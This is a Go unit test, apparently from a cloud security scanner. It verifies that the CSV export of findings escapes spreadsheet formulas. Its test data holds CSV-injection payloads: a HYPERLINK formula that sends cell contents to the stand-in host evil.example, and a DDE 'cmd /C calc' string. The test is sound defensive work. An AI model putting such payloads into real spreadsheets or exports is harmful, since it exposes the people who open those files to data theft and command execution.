package app_test

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/offloadsecurity/cspm/internal/db"
	"github.com/offloadsecurity/cspm/internal/db/dbtest"
	"github.com/offloadsecurity/cspm/internal/findings"
	"github.com/offloadsecurity/cspm/internal/rbac"
)

// A scanned target chooses what its findings say. A title such as
// =HYPERLINK(...) must reach a spreadsheet as text, not as a formula that
// runs when the analyst opens the export (OWASP CSV injection).
func TestCSVExportNeutralizesFormulas(t *testing.T) {
	t.Parallel()
	dbtest.Each(t, func(t *testing.T, reg *db.Registry) {
		e := newEnv(t, reg, nil)
		tm := e.team("acme")
		u := e.user(tm.ID, rbac.SecurityAnalyst)
		report := `[{"class_uid":2004,"status_code":"FAIL","severity_id":4,` +
			`"finding_info":{"uid":"f1","title":"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"},` +
			`"metadata":{"event_code":"@SUM(1+1)*cmd|' /C calc'!A0"},"cloud":{"account":{"uid":"-1+1"},"region":"r1"}}]`
		if _, err := e.app.Findings.Import(context.Background(), strings.NewReader(report), findings.ImportParams{TeamID: tm.ID}); err != nil {
			t.Fatal(err)
		}
		status, body := e.login(u.Email).do("GET", "/api/v1/findings/export?format=csv", nil)
		if status != 200 {
			t.Fatalf("export = %d %s", status, body)
		}
		rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("csv %v: %q", err, body)
		}
		cells := map[string]string{}
		for i, h := range rows[0] {
			cells[h] = rows[1][i]
		}
		for col, want := range map[string]string{
			"title":       `'=HYPERLINK("http://evil.example/?"&A1,"open")`,
			"check_id":    `'@SUM(1+1)*cmd|' /C calc'!A0`,
			"account_uid": `'-1+1`,
			"region":      "r1",
		} {
			if cells[col] != want {
				t.Errorf("%s = %q, want %q", col, cells[col], want)
			}
		}
	})
}
